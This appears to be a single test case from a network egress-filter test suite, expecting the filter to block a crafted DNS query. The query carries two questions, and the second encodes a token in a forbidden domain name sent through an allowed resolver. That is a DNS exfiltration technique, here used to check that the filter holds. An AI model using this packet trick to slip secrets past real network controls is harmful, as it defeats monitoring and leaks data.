#!/usr/bin/python3
# id: d36b_dns_two_questions
# title: two questions in one query, the second is forbidden
# needs: user
# expect: block
# why: several questions are refused
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
def f():
    q = bytearray(dnsq(ANAME)); q[5] = 2; s = socket.socket(type=socket.SOCK_DGRAM); s.sendto(bytes(q) + dnsq(f'{TOK}.{FNAME}')[12:], (ALLOW, 53)); time.sleep(.3)
attempt(f, dst=(ALLOW,), chan=('dns',))
